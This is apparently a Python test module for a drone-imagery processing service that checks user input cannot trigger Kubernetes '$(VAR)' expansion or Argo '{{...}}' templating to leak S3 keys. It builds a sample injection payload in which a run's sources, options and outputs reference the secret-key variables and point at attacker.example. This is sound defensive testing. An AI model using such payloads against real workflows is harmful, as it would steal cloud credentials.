"""Attack: user text in a run's Workflow read as template syntax by Kubernetes or Argo.

Everything a client sends (task name, zipurl, outputs, option values) ends up in the containers
of the run's pod: in the ``--spec`` JSON argument of ``fetch``/``upload``, which also hold the S3
keys as env vars from a Secret, and in ODM's argv. Two expanders read those strings:

- **Kubernetes** (the kubelet, k8s.io/kubernetes ``third_party/forked/golang/expansion``) expands
  ``$(NAME)`` in ``command``, ``args`` and env values. ``kubernetes_expand`` below is a
  faithful model of ``expansion.Expand`` with ``MappingFuncFor``: ``$$`` is an escaped ``$``;
  ``$(NAME)`` becomes the variable's value when ``NAME`` is defined, and stays verbatim when not
  (also ``$()``); an unterminated ``$(`` and a ``$`` before any other character (or at the end)
  stay as they are. ``container_process`` follows the kubelet's order: env vars in list order,
  each ``value`` expanded against the variables defined *before* it (``valueFrom`` values are
  taken literally), then ``command`` and ``args`` against the complete environment; variables
  the runtime adds (Argo's ``ARGO_*``, service links) are visible to both. Argo's emissary does
  not stand in between: it is prepended to ``command`` and execs the expanded argv.
- **Argo** replaces ``{{…}}`` tags in every string of a template; its scanner starts a tag at
  every ``{{`` (an unclosed one is an error), so ``argo_reads_tag`` is "contains ``{{``".

Covered: (a) the concrete secret theft — a RunSpec whose sources, name, outputs and option values
carry ``$(SCALEODM_S3__SECRET_ACCESS_KEY)``, ``$(SCALEODM_S3__ACCESS_KEY_ID)``, ``$$(X)``, lone
and trailing ``$``, and ``{{workflow.name}}`` where JSON can escape it: after the Kubernetes model
every container's argv and env are exactly what the builder meant (the ``--spec`` JSON parses
back to the same RunSpec, ODM's args are ``to_engine_args(options)``), no secret value appears in
any argv, and no string's expansion depends on which variables exist; an option value holding
``{{`` is refused. (b) the same invariant as a hypothesis property over arbitrary text in every
RunSpec field (and the S3 env values) and option values of every catalog type; no ``{{`` anywhere
in a manifest that was built, and ``ArgoTemplateError`` exactly when an ODM argument holds one.
The model itself is pinned by a table of Kubernetes' own expansion cases.

Left out: running the pod (cluster tests); what ``stages`` and ODM do with the values they get.
"""

from __future__ import annotations

import json
import string
from collections.abc import Callable, Iterator, Mapping
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from scaleodm.common.contracts.commands import RunSpec
from scaleodm.common.contracts.ids import is_task_id
from scaleodm.common.domain.options import OptionSpec, load_catalog, to_engine_args
from scaleodm.common.settings import ArgoSettings
from scaleodm.scheduler import workflows
from tests.harness import properties

TASK_ID = "6f1c2d3e-4b5a-4c6d-8e7f-9a0b1c2d3e4f"
SECRET_NAME = ArgoSettings().s3_secret
SECRETS = {
    (SECRET_NAME, "access_key_id"): "LEAKED-ACCESS-KEY-ID-5b7e",
    (SECRET_NAME, "secret_access_key"): "LEAKED-SECRET-ACCESS-KEY-9c1e",
}
# What the runtime adds to a container's environment besides its spec (Argo's executor
# variables, service links of the namespace's Services): visible to every expansion.
RUNTIME_ENV = {
    "ARGO_CONTAINER_NAME": "fetch",
    "ARGO_POD_NAME": "odm-run-pod",
    "KUBERNETES_SERVICE_HOST": "10.96.0.1",
    "MONGO_PORT": "tcp://10.96.0.7:27017",
}
STEP_ENV = {
    "SCALEODM_S3__ENDPOINT_URL": "http://minio.scaleodm.svc:9000",
    "SCALEODM_S3__REGION": "us-east-1",
    "SCALEODM_S3__BUCKET": "scaleodm",
}


# --- the models -----------------------------------------------------------------------------


def kubernetes_expand(text: str, mapping: Callable[[str], str | None]) -> str:
    """``expansion.Expand(text, MappingFuncFor(...))``; ``mapping`` is None for undefined names.

    Go walks bytes, this walks code points: the syntax characters are ASCII, which never occur
    inside a multi-byte UTF-8 sequence, so the two produce the same string.
    """
    out: list[str] = []
    checkpoint = 0
    cursor = 0
    while cursor < len(text):
        if text[cursor] == "$" and cursor + 1 < len(text):
            out.append(text[checkpoint:cursor])
            rest = text[cursor + 1 :]
            if rest[0] == "$":  # escaped operator
                read, advance = "$", 1
            elif rest[0] == "(":
                close = rest.find(")", 1)
                if close == -1:  # incomplete reference: the "$(" stays, scanning goes on
                    read, advance = "$(", 1
                else:
                    name = rest[1:close]
                    value = mapping(name)
                    read, advance = (f"$({name})" if value is None else value), close + 1
            else:  # an operator not starting an expression: "$" and the next character
                read, advance = "$" + rest[0], 1
            out.append(read)
            cursor += advance
            checkpoint = cursor + 1
        cursor += 1
    return "".join(out) + text[checkpoint:]


def container_process(
    container: Mapping[str, Any],
    secrets: Mapping[tuple[str, str], str],
    runtime_env: Mapping[str, str] = RUNTIME_ENV,
) -> tuple[list[str], dict[str, str]]:
    """The argv and environment the kubelet starts ``container`` with (see the docstring)."""
    env: dict[str, str] = {}

    def defined(name: str) -> str | None:
        return env.get(name, runtime_env.get(name))

    for var in container.get("env", []):
        if "value" in var:
            env[var["name"]] = kubernetes_expand(var["value"], defined)
        else:
            ref = var["valueFrom"]["secretKeyRef"]
            env[var["name"]] = secrets[(ref["name"], ref["key"])]
    argv = [
        kubernetes_expand(item, defined)
        for item in [*container.get("command", []), *container.get("args", [])]
    ]
    return argv, env


def argo_reads_tag(text: str) -> bool:
    """Whether Argo's template scanner would read a tag in ``text``."""
    return "{{" in text


def every_name(name: str) -> str:
    """A mapping defining every variable name: the worst environment a string can meet."""
    return f"<value of {name}>"


def strings(node: Any) -> Iterator[str]:
    """Every string of a manifest, keys included."""
    if isinstance(node, str):
        yield node
    elif isinstance(node, dict):
        for key, value in node.items():
            yield key
            yield from strings(value)
    elif isinstance(node, list):
        for item in node:
            yield from strings(item)


def containers(manifest: dict[str, Any]) -> dict[str, dict[str, Any]]:
    (template,) = manifest["spec"]["templates"]
    assert set(template) & {"container", "script", "initContainers", "sidecars"} == set()
    return {c["name"]: c for c in template["containerSet"]["containers"]}


# --- the invariant --------------------------------------------------------------------------


def spec_fields(spec: RunSpec) -> dict[str, Any]:
    """The RunSpec fields of ``spec`` (a CreateTask also has its verb), as JSON gives them back."""
    own = spec.model_dump_json(include=set(RunSpec.model_fields))
    return RunSpec.model_validate_json(own).model_dump()


def assert_runs_as_meant(spec: RunSpec, step_env: Mapping[str, str]) -> dict[str, Any]:
    """Build ``spec``'s Workflow and check every container gets exactly the intended strings."""
    manifest = workflows.build_workflow(spec, ArgoSettings(), shard=0, step_env=step_env)
    steps = containers(manifest)
    assert set(steps) == {"fetch", "main", "upload"}
    for name, container in steps.items():
        literal = [
            *container.get("command", []), *container.get("args", []),
            *(var["value"] for var in container.get("env", []) if "value" in var),
        ]
        for text in literal:
            # No reference survives escaping: the result is the same whatever is defined.
            assert kubernetes_expand(text, every_name) == kubernetes_expand(
                text, lambda _name: None
            ), (name, text)
        argv, env = container_process(container, SECRETS)
        if name == "main":
            assert argv == [
                "python3", workflows.ODM_RUN, *to_engine_args(spec.options), "--project-path",
                workflows.WORKSPACE, spec.task_id,
            ]
            assert env == {"ODM_NONINTERACTIVE": "1"}
        else:
            assert argv[:4] == ["python", "-m", workflows.STAGES_MODULE, name]
            assert argv[4] == "--spec" and argv[6:] == ["--workspace", workflows.WORKSPACE]
            assert RunSpec.model_validate_json(argv[5]).model_dump() == spec_fields(spec)
            assert argv[5] == workflows.argo_safe_json(
                spec.model_dump_json(include=set(RunSpec.model_fields))
            )
            assert env == {
                **{var: SECRETS[(SECRET_NAME, key)] for var, key in workflows.SECRET_KEYS.items()},
                **step_env,
            }
        for item in argv:
            for secret in SECRETS.values():
                assert secret not in item, (name, item)
    for text in strings(manifest):
        assert not argo_reads_tag(text), text
    return manifest


# --- the model pinned to Kubernetes' own cases ----------------------------------------------

VARS = {"VAR_A": "A", "VAR_B": "B", "VAR_EMPTY": ""}


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        pytest.param("$(VAR_A)", "A", id="defined"),
        pytest.param("___$(VAR_B)___", "___B___", id="embedded"),
        pytest.param("$(VAR_A)-$(VAR_B)", "A-B", id="two"),
        pytest.param("$(VAR_EMPTY)", "", id="defined-empty"),
        pytest.param("$(VAR_DNE)", "$(VAR_DNE)", id="undefined-verbatim"),
        pytest.param("$()", "$()", id="empty-name"),
        pytest.param("$$(VAR_A)", "$(VAR_A)", id="escaped"),
        pytest.param("$$$(VAR_A)", "$A", id="escaped-then-reference"),
        pytest.param("$$$$(VAR_A)", "$$(VAR_A)", id="two-escapes"),
        pytest.param("$$", "$", id="escape-alone"),
        pytest.param("$", "$", id="lone"),
        pytest.param("x$", "x$", id="trailing"),
        pytest.param("$x", "$x", id="operator-without-expression"),
        pytest.param("$(VAR_A", "$(VAR_A", id="unterminated"),
        pytest.param("$(VAR_A$(VAR_B)", "$(VAR_A$(VAR_B)", id="name-up-to-first-close"),
        pytest.param("$((VAR_A))", "$((VAR_A))", id="nested-open"),
        pytest.param("$é$(VAR_A)", "$éA", id="multibyte-after-operator"),
    ],
)
def test_expansion_model(text: str, expected: str) -> None:
    assert kubernetes_expand(text, VARS.get) == expected
    assert kubernetes_expand(workflows.kubernetes_literal(text), every_name) == text


def test_env_values_see_only_earlier_variables() -> None:
    container = {
        "command": ["run", "$(LATE)", "$(EARLY)"],
        "env": [
            {"name": "EARLY", "value": "e"},
            {"name": "USES", "value": "$(EARLY)+$(LATE)+$(ARGO_POD_NAME)"},
            {"name": "LATE", "value": "l"},
            {"name": "KEY", "valueFrom": {"secretKeyRef": {"name": "s", "key": "k"}}},
            {"name": "LITERAL", "value": "$$(KEY)"},
        ],
    }
    argv, env = container_process(container, {("s", "k"): "$(EARLY)"})
    assert env == {
        "EARLY": "e", "USES": "e+$(LATE)+odm-run-pod", "LATE": "l", "KEY": "$(EARLY)",
        "LITERAL": "$(KEY)",
    }
    assert argv == ["run", "l", "e"]


# --- (a) the concrete attack ----------------------------------------------------------------

STEAL_KEY = "$(SCALEODM_S3__SECRET_ACCESS_KEY)"
STEAL_ID = "$(SCALEODM_S3__ACCESS_KEY_ID)"
ATTACK = RunSpec(
    task_id=TASK_ID,
    attempt=1,
    name=f"x {STEAL_KEY} $$(X) {{{{workflow.name}}}} $",
    options=[
        {"name": "cameras", "value": f'{{"k": "{STEAL_KEY}", "id": "{STEAL_ID}$"}}'},
        {"name": "sm-cluster", "value": f"http://attacker.example/{STEAL_ID}?$$(X)$"},
        {"name": "primary-band", "value": "$"},
        {"name": "dsm", "value": True},
        {"name": "crop", "value": 0.5},
    ],
    sources=[
        f"https://attacker.example/x.zip?k={STEAL_KEY}&i={STEAL_ID}",
        f"s3://bucket/{STEAL_ID}/{{{{=sprig.env('X')}}}}/$",
    ],
    output_prefix=f"s3://bucket/tasks/{TASK_ID}/outputs/$(SCALEODM_S3__BUCKET)/",
    outputs=[f"odm_orthophoto/{STEAL_KEY}.tif", "$$(X)", "{{inputs.parameters.x}}", "$"],
    images_count=None,
)


def test_secret_theft_through_kubernetes_expansion_fails() -> None:
    manifest = assert_runs_as_meant(ATTACK, STEP_ENV)
    steps = containers(manifest)
    # The attack is really in the manifest, escaped: each reference reaches the process as text.
    argv, _ = container_process(steps["fetch"], SECRETS)
    decoded = RunSpec.model_validate_json(argv[5])
    assert decoded.sources[0] == f"https://attacker.example/x.zip?k={STEAL_KEY}&i={STEAL_ID}"
    assert decoded.name.endswith("$") and "$$(X)" in decoded.name
    assert "{{workflow.name}}" in decoded.name and "{{" not in json.dumps(manifest)
    odm, _ = container_process(steps["main"], SECRETS)
    assert f"http://attacker.example/{STEAL_ID}?$$(X)$" in odm and "$" in odm
    # Without the escaping, the same manifest would have leaked both keys.
    unescaped = {
        **steps["fetch"], "args": [a.replace("$$", "$") for a in steps["fetch"]["args"]]
    }
    leaked, _ = container_process(unescaped, SECRETS)
    assert all(secret in leaked[5] for secret in SECRETS.values())


def test_option_value_with_argo_tag_is_refused() -> None:
    spec = ATTACK.model_copy(update={"options": [{"name": "cameras", "value": "{{x}}"}]})
    with pytest.raises(workflows.ArgoTemplateError):
        workflows.build_workflow(spec, ArgoSettings(), shard=0, step_env=STEP_ENV)


# --- (b) property over arbitrary input ------------------------------------------------------

FRAGMENTS = (
    "$", "$$", "$(", ")", "(", STEAL_KEY, STEAL_ID, "$$(X)", "$()", "{{", "}}", "{", "}",
    "{{workflow.name}}", "{{=sprig.env('X')}}", "\\", '"', "\\u007b", "é", "\n",
)
texts = st.lists(
    st.one_of(st.text(max_size=6), st.sampled_from(FRAGMENTS)), max_size=6
).map("".join)
operator_texts = texts.filter(lambda t: "{{" not in t)  # operator-set values: never Argo tags
numbers_as_text = st.text(alphabet=string.digits + "$-.e", max_size=6)


def _value(spec: OptionSpec) -> st.SearchStrategy[Any]:
    if spec.type == "bool":
        return st.booleans()
    if spec.type == "int":
        return st.integers(min_value=-(2**63), max_value=2**63)
    if spec.type == "float":
        return st.floats(allow_nan=False, allow_infinity=False)
    if spec.type == "enum" and isinstance(spec.domain, tuple):
        return st.one_of(st.sampled_from(spec.domain), texts)
    return st.one_of(texts, numbers_as_text)  # string, path


CATALOG = load_catalog()
options = st.lists(
    st.sampled_from(CATALOG).flatmap(
        lambda spec: st.fixed_dictionaries({"name": st.just(spec.name), "value": _value(spec)})
    ),
    max_size=8,
)
task_ids = st.one_of(
    st.uuids(version=4).map(str), st.uuids(version=4).map(lambda u: str(u).upper()), texts
)
run_specs = st.builds(
    RunSpec,
    task_id=task_ids,
    attempt=st.integers(min_value=1, max_value=10**6),
    name=texts,
    options=options,
    sources=st.lists(texts, max_size=3),
    output_prefix=texts,
    skip_post_processing=st.booleans(),
    outputs=st.none() | st.lists(texts, max_size=3),
    images_count=st.none() | st.integers(min_value=0, max_value=10**6),
)
step_envs = st.fixed_dictionaries(
    {"SCALEODM_S3__ENDPOINT_URL": operator_texts, "SCALEODM_S3__REGION": operator_texts,
     "SCALEODM_S3__BUCKET": operator_texts}
)


@settings(max_examples=properties.examples(300), deadline=None, derandomize=True)
@given(spec=run_specs, step_env=step_envs)
def test_no_input_is_expanded_by_kubernetes_or_argo(
    spec: RunSpec, step_env: dict[str, str]
) -> None:
    if not is_task_id(spec.task_id):
        with pytest.raises(ValueError, match="uuid"):
            workflows.build_workflow(spec, ArgoSettings(), shard=0, step_env=step_env)
        return
    if any(argo_reads_tag(arg) for arg in to_engine_args(spec.options)):
        with pytest.raises(workflows.ArgoTemplateError):
            workflows.build_workflow(spec, ArgoSettings(), shard=0, step_env=step_env)
        return
    assert_runs_as_meant(spec, step_env)
